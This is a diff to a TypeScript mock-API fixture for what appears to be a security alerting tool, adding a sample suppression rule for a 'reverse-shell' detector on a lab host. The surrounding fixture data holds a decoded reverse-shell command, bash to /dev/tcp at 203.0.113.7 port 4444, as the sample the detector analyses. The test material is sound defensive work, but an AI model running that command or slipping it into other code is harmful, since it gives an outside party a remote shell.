@@ -38,7 +38,7 @@ export function answersOf({ alerts, events }: Known): Answers {
     'GET /api/search': () => ({
       hits: [{ ...sessionRow(1), eventId: eventId(7), at: Date.now(), snippet: 'make part-7' }],
     }),
-    'GET /api/suppressions': () => ({ suppressions: [] }),
+    'GET /api/suppressions': () => ({ suppressions: [SUPPRESSION] }),
     'POST /api/suppressions/preview': () => ({ count: 3, alerts: alerts.slice(0, 3), blinds: ['bash on /dev/tcp'] }),
     'GET /api/sources': () => ({ sources: SOURCES }),
     'GET /api/fleet': () => ({ agents: FLEET }),
@@ -144,6 +144,17 @@ const ANALYSIS = {
   destinations: [{ given: '203.0.113.7', host: '203.0.113.7', port: 4444, class: 'public', disguised: false }],
   decoded: ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
   effects: ['a shell is connected to 203.0.113.7:4444'],
+};
+
+const SUPPRESSION = {
+  id: 'suppression-1',
+  tenant: 'default',
+  match: { detector: 'reverse-shell', host: 'lab-1' },
+  owner: 'ana',
+  reason: 'The lab shows one each week.',
+  createdAt: 1,
+  expiresAt: Date.UTC(2027, 0, 1),
+  hits: 12,
 };
 
 const SOURCES = [
